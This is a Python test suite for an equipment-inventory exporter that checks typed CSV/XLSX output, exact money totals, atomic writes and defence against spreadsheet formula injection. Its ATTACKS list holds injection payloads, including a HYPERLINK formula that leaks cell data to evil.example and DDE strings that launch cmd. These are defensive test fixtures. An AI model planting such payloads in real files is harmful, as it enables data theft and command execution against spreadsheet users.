"""Exports read back as a spreadsheet would read them: typed, exact, never executable."""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Callable
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from inl_equipment.db.session import Database
from inl_equipment.interchange import exporters
from inl_equipment.interchange.exporters import (
    ExportError,
    atomic_output,
    export_report,
    format_for_path,
)
from inl_equipment.interchange.safe_cells import is_dangerous, neutralise, restore
from inl_equipment.services.columns import COLUMN_BY_KEY, ROW_FIELDS, format_money
from inl_equipment.services.register import Register
from inl_equipment.services.reports import (
    ALL_COLUMNS,
    DEFAULT_COLUMNS,
    Report,
    build_report,
    describe_filters,
    load_for_export,
)
from inl_equipment.services.search import Query, RefNames, Snapshot

DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\n"]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+1+1",
    "-123",
    "-2+3",
    "\t=1+1",
    "\r\n=1+1",
    "=1+1\n",
]
NOW = datetime(2026, 11, 28, 9, 30)


# --- a register in memory -------------------------------------------------------------


def refs() -> RefNames:
    return RefNames(
        en={
            "categories": {1: "Radios", 2: "Vehicles"},
            "agencies": {1: "Customs Department", 2: '=HYPERLINK("x")'},
            "locations": {1: "Dansavanh border checkpoint", 2: "Office"},
            "funding": {1: "FY2024 INCLE - Counternarcotics LOA"},
            "provinces": {1: "Savannakhet", 2: "Vientiane Capital"},
        },
        lo={"agencies": {1: "ກົມພາສີ"}, "provinces": {1: "ສະຫວັນນະເຂດ"}},
        location_province={1: 1, 2: 2},
        agency_province={1: 1, 2: 2},
    )


def make_snapshot(texts: list[str], cents: list[int]) -> Snapshot:
    rows = []
    for n, (text, value) in enumerate(zip(texts, cents, strict=True), 1):
        fields: dict[str, Any] = {
            "id": n,
            "asset_tag": f"INL-24-{n:06d}",
            "serial_number": text,
            "category_id": 1 + n % 2,
            "make": text,
            "model": "APX 900",
            "description": text,
            "quantity": 1 + n % 3,
            "unit": "each",
            "unit_value": value,
            "status": ("in_stock", "handed_over", "lost")[n % 3],
            "holder_agency_id": (None, 1, 2)[n % 3],
            "location_id": 1 + n % 2,
            "funding_source_id": 1,
            "acquisition_date": f"2024-0{1 + n % 9}-1{n % 10}",
            "condition": "good",
            "lot_number": "",
            "expiry_date": None if n % 2 else "2027-12-31",
            "vendor": text,
            "po_number": "PO-1",
            "title_holder": "",
            "federal_share_pct": 10000,
            "disposal_date": "2025-01-02" if n % 3 == 2 else None,
            "disposal_method": text if n % 3 == 2 else "",
            "disposal_price": value // 2 if n % 3 == 2 else None,
            "notes": text,
            "last_check_date": "2025-06-01" if n % 3 == 1 else None,
            "last_check_result": "in_use" if n % 3 == 1 else None,
            "not_seen_run": 0 if n % 3 == 1 else None,
            "check_base": "2025-06-01" if n % 3 == 1 else "2024-01-01",
            "description_lo": None,
        }
        rows.append(tuple(fields[f] for f in ROW_FIELDS))
    return Snapshot(rows, refs())


def report_for(snap: Snapshot, columns: tuple[str, ...] = ALL_COLUMNS, **kw: Any) -> Report:
    return build_report(snap, Query(), columns, operator="Tester", generated_at=NOW, **kw)


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with io.StringIO(raw.decode("utf-8-sig"), newline="") as stream:
        return list(csv.reader(stream))


def cents_of(number: float | int) -> int:
    """An Excel number read back as exact cents (it was the nearest double)."""
    return int((Decimal(repr(number)) * 100).to_integral_value())


# --- plain data -------------------------------------------------------------------------


def test_filters_in_words_use_reference_names() -> None:
    q = Query(text=" hilux ", statuses=frozenset({"handed_over"}), provinces=frozenset({1}))
    words = describe_filters(q, refs())
    assert words == "Status: Handed over · Province: Savannakhet · Search: “hilux”"
    assert describe_filters(Query(), refs()) == "All items (no search or filter)"
    sorted_words = describe_filters(Query(sort_key="unit_value", descending=True), refs())
    assert sorted_words.endswith("Sorted by Unit value, descending")


def test_rows_are_typed_and_groups_add_up_exactly() -> None:
    snap = make_snapshot(["a", "b", "c", "d", "e"], [1, 10, 99, 123456, 5])
    report = report_for(
        snap,
        (
            "asset_tag",
            "quantity",
            "unit_value",
            "total_value",
            "acquisition_date",
            "expiry_date",
            "holder",
            "province",
        ),
        group_by="agency",
    )
    first = next(report.rows())
    assert first[0] == "INL-24-000001" and first[1] == 2
    assert first[2] == Decimal("0.01") and first[3] == Decimal("0.02")
    assert first[4] == date(2024, 2, 11) and first[5] is None
    assert first[6] == "Customs Department" and first[7] == "Vientiane Capital"
    groups = report.groups()
    assert [g.name for g in groups] == ['=HYPERLINK("x")', "Customs Department", "No holder"]
    assert sum(g.count for g in groups) == len(report) == 5
    assert sum(g.cents for g in groups) == report.total_cents
    assert (
        report.total_value
        == Decimal(sum(q * v for q, v in ((2, 1), (3, 10), (1, 99), (2, 123456), (3, 5)))) / 100
    )
    assert groups[1].name_lo == "ກົມພາສີ"


def test_unknown_column_or_grouping_is_refused() -> None:
    snap = make_snapshot(["a"], [1])
    with pytest.raises(ValueError, match="column"):
        report_for(snap, ("nope",))
    with pytest.raises(ValueError, match="group"):
        report_for(snap, group_by="colour")


def test_format_from_extension() -> None:
    assert format_for_path("x/inventory.XLSX") == "xlsx"
    assert format_for_path("a.pdf") == "pdf" and format_for_path("b.csv") == "csv"
    with pytest.raises(ExportError, match="unknown file extension '.txt'"):
        format_for_path("notes.txt")


def test_target_folder_must_exist(tmp_path: Path) -> None:
    report = report_for(make_snapshot(["a"], [1]))
    with pytest.raises(ExportError, match="folder does not exist"):
        export_report(report, tmp_path / "missing" / "x.csv")
    with pytest.raises(ExportError, match="is a folder"):
        export_report(report, tmp_path, "csv")


# --- round trips from a real register -----------------------------------------------------


@pytest.fixture
def report(register: Register) -> Report:
    q = Query(statuses=frozenset({"handed_over", "in_stock"}), sort_key="unit_value")
    return load_for_export(register, q, DEFAULT_COLUMNS, group_by="province", generated_at=NOW)


def test_csv_round_trip(report: Report, tmp_path: Path) -> None:
    result = export_report(report, tmp_path / "inventory.csv")
    assert result.rows == len(report) > 0 and result.format == "csv"
    assert b"\r\n" in result.path.read_bytes()
    table = read_csv(result.path)
    assert table[0] == [COLUMN_BY_KEY[k].header for k in DEFAULT_COLUMNS]
    assert len(table) == len(report) + 1
    money = DEFAULT_COLUMNS.index("unit_value")
    acquired = DEFAULT_COLUMNS.index("acquisition_date")
    for cells, values in zip(table[1:], report.rows(), strict=True):
        assert Decimal(cells[money]) == values[money] and "$" not in cells[money]
        assert cells[acquired] == values[acquired].isoformat()
        assert cells[DEFAULT_COLUMNS.index("quantity")].isdigit()
    # Sorted by value, as the table showed it.
    amounts = [Decimal(r[money]) for r in table[1:]]
    assert amounts == sorted(amounts)


def test_xlsx_round_trip_typed_cells(report: Report, tmp_path: Path) -> None:
    path = export_report(report, tmp_path / "inventory.xlsx").path
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Inventory", "Summary"]
    sheet = book["Inventory"]
    assert sheet.freeze_panes == "A2"
    last = openpyxl.utils.get_column_letter(len(DEFAULT_COLUMNS))
    assert sheet.auto_filter.ref == f"A1:{last}{len(report) + 1}"
    assert [c.value for c in sheet[1]] == [COLUMN_BY_KEY[k].header for k in DEFAULT_COLUMNS]
    col = {k: i for i, k in enumerate(DEFAULT_COLUMNS)}
    total = 0
    for cells, values in zip(sheet.iter_rows(min_row=2), report.rows(), strict=True):
        value = cells[col["unit_value"]]
        assert isinstance(value.value, int | float) and "$" in value.number_format
        assert cents_of(value.value) == int(values[col["unit_value"]] * 100)
        assert isinstance(cells[col["acquisition_date"]].value, datetime)
        assert cells[col["acquisition_date"]].value.date() == values[col["acquisition_date"]]
        assert cells[col["acquisition_date"]].number_format == "yyyy-mm-dd"
        assert type(cells[col["quantity"]].value) is int
        total += cells[col["quantity"]].value * cents_of(value.value)
    assert total == report.total_cents
    summary = list(book["Summary"].iter_rows(values_only=True))
    assert summary[0][0] == "Equipment inventory"
    assert any("Status: In stock, Handed over" in str(r[0]) for r in summary)
    last = summary[-1]
    assert last[0] == "Total" and last[2] == len(report)
    assert cents_of(last[3]) == report.total_cents
    names = [r[0] for r in summary[6:-1]]
    assert names == [g.name for g in report.groups()]
    assert sum(r[2] for r in summary[6:-1]) == len(report)


def test_whole_register_every_column(register: Register, tmp_path: Path) -> None:
    full = load_for_export(register, Query(), ALL_COLUMNS)
    path = export_report(full, tmp_path / "all.xlsx").path
    sheet = openpyxl.load_workbook(path, read_only=True)["Inventory"]
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 301 and len(rows[0]) == len(ALL_COLUMNS)


# --- formula injection and exact money (property) ---------------------------------------------

_text = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30
)
_dangerous_text = st.one_of(
    st.sampled_from(ATTACKS),
    st.builds(lambda a, b: a + b, st.sampled_from(DANGEROUS), _text),
    st.builds(
        lambda a, b, c: a + b + c, st.sampled_from(DANGEROUS), st.sampled_from(DANGEROUS), _text
    ),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    texts=st.lists(st.one_of(_dangerous_text, _text), min_size=1, max_size=25),
    cents=st.lists(st.integers(0, 10**11), min_size=25, max_size=25),
)
def test_no_export_cell_can_execute_and_money_stays_exact(
    texts: list[str], cents: list[int]
) -> None:
    snap = make_snapshot(texts, cents[: len(texts)])
    report = report_for(snap, group_by="agency")
    text_cols = [i for i, k in enumerate(report.kinds) if k == "text"]
    money_col = ALL_COLUMNS.index("unit_value")
    with tempfile.TemporaryDirectory() as folder:
        xlsx = export_report(report, Path(folder) / "x.xlsx").path
        table = read_csv(export_report(report, Path(folder) / "x.csv").path)
        book = openpyxl.load_workbook(xlsx)
    sheet = book["Inventory"]
    for values, cells, row in zip(
        report.rows(), table[1:], sheet.iter_rows(min_row=2), strict=True
    ):
        for i in text_cols:
            original, cell, xcell = values[i], cells[i], row[i]
            # CSV: a dangerous text starts with the apostrophe and reads back exactly.
            assert not is_dangerous(cell)
            assert cell == neutralise(original) and restore(cell) == original
            # XLSX: a string cell holding the exact value, never a formula.
            assert xcell.data_type != "f"
            # openpyxl leaves Excel's escapes of control characters (_x001F_) as they are.
            assert unescape(xcell.value or "") == original
            if is_dangerous(original):
                assert xcell.data_type == "s" and xcell.quotePrefix
        assert cents_of(row[money_col].value) == values[money_col] * 100
        assert Decimal(cells[money_col]) == values[money_col]
        assert type(row[ALL_COLUMNS.index("quantity")].value) is int
    for cells in sheet.iter_rows():
        assert all(c.data_type != "f" for c in cells)
    for cells in book["Summary"].iter_rows():
        for c in cells:
            assert c.data_type != "f"
            assert not (isinstance(c.value, str) and is_dangerous(c.value)) or c.quotePrefix
    assert (
        sum(Decimal(c[money_col]) * int(c[ALL_COLUMNS.index("quantity")]) for c in table[1:])
        == report.total_value
    )
    total_row = list(book["Summary"].iter_rows(values_only=True))[-1]
    assert cents_of(total_row[3]) == report.total_cents


def test_csv_header_and_ref_names_are_neutralised_too(tmp_path: Path) -> None:
    report = report_for(make_snapshot(["x", "y", "z"], [1, 2, 3]), ("holder", "unit_value"))
    table = read_csv(export_report(report, tmp_path / "h.csv").path)
    assert table[2][0] == '\'=HYPERLINK("x")'
    assert table[1][1] == "0.01"


# --- atomic writes: cancel and failure leave nothing behind ----------------------------------


class Cancelled(Exception):
    pass


def cancel_after(calls: int) -> Callable[[int, int], None]:
    seen = [0]

    def progress(done: int, total: int) -> None:
        seen[0] += 1
        if seen[0] > calls:
            raise Cancelled()

    return progress


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
@pytest.mark.parametrize("calls", [0, 1])
def test_cancel_leaves_no_file_and_no_temp_file(
    register: Register, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str, calls: int
) -> None:
    scratch = tmp_path / "system-temp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    out = tmp_path / "out"
    out.mkdir()
    report = load_for_export(register, Query(), DEFAULT_COLUMNS, group_by="status")
    with pytest.raises(Cancelled):
        export_report(report, out / f"inventory.{fmt}", progress=cancel_after(calls))
    assert list(out.iterdir()) == []
    assert list(scratch.iterdir()) == []  # xlsxwriter's row files are gone too


def test_failure_keeps_the_previous_file(register: Register, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "inventory.csv"
    target.write_text("previous export")
    report = load_for_export(register, Query(), DEFAULT_COLUMNS)
    with pytest.raises(Cancelled):
        export_report(report, target, progress=cancel_after(0))
    assert target.read_text() == "previous export"
    assert [p.name for p in target.parent.iterdir()] == ["inventory.csv"]
    export_report(report, target)
    assert read_csv(target)[0][0] == "Asset tag"


def test_atomic_output_replaces_only_on_success(tmp_path: Path) -> None:
    target = tmp_path / "a.csv"
    with atomic_output(target) as tmp:
        assert tmp.parent == tmp_path and tmp.name.startswith(".a.csv.")
        tmp.write_text("done")
    assert target.read_text() == "done"
    with pytest.raises(RuntimeError), atomic_output(target) as tmp:
        tmp.write_text("half")
        raise RuntimeError("disk gone")
    assert target.read_text() == "done" and len(list(tmp_path.iterdir())) == 1


def test_progress_reports_reach_the_total(register: Register, tmp_path: Path) -> None:
    report = load_for_export(register, Query(), DEFAULT_COLUMNS, group_by="category")
    for fmt in exporters.FORMATS:
        seen: list[tuple[int, int]] = []
        export_report(report, tmp_path / f"p.{fmt}", progress=lambda d, t, s=seen: s.append((d, t)))
        assert seen and seen[-1][0] == seen[-1][1] > 0
        assert all(d <= t for d, t in seen)
        assert [d / t for d, t in seen] == sorted(d / t for d, t in seen)


def test_money_format_matches_the_table() -> None:
    assert format_money(123450) == "$1,234.50"
    report = report_for(make_snapshot(["a"], [123450]), ("unit_value",))
    assert next(report.display_rows()) == ["$1,234.50"]


def test_export_leaves_the_register_unchanged(demo_db: Database, tmp_path: Path) -> None:
    reg = Register(demo_db, "Tester")
    before = reg.items.snapshot().rows
    export_report(load_for_export(reg, Query(), DEFAULT_COLUMNS), tmp_path / "x.csv")
    assert reg.items.snapshot().rows == before


def test_the_workbook_says_who_prepared_it(register: Register, tmp_path: Path) -> None:
    assert load_for_export(register, Query(), DEFAULT_COLUMNS).spec.operator == register.operator
    report = load_for_export(
        register, Query(), DEFAULT_COLUMNS, generated_at=NOW, operator="Noy Phommachanh"
    )
    book = openpyxl.load_workbook(export_report(report, tmp_path / "who.xlsx").path)
    lines = [str(r[0]) for r in book["Summary"].iter_rows(values_only=True) if r[0]]
    assert any(line.endswith("by Noy Phommachanh") for line in lines[:4])
    assert book.properties.creator == "Noy Phommachanh"
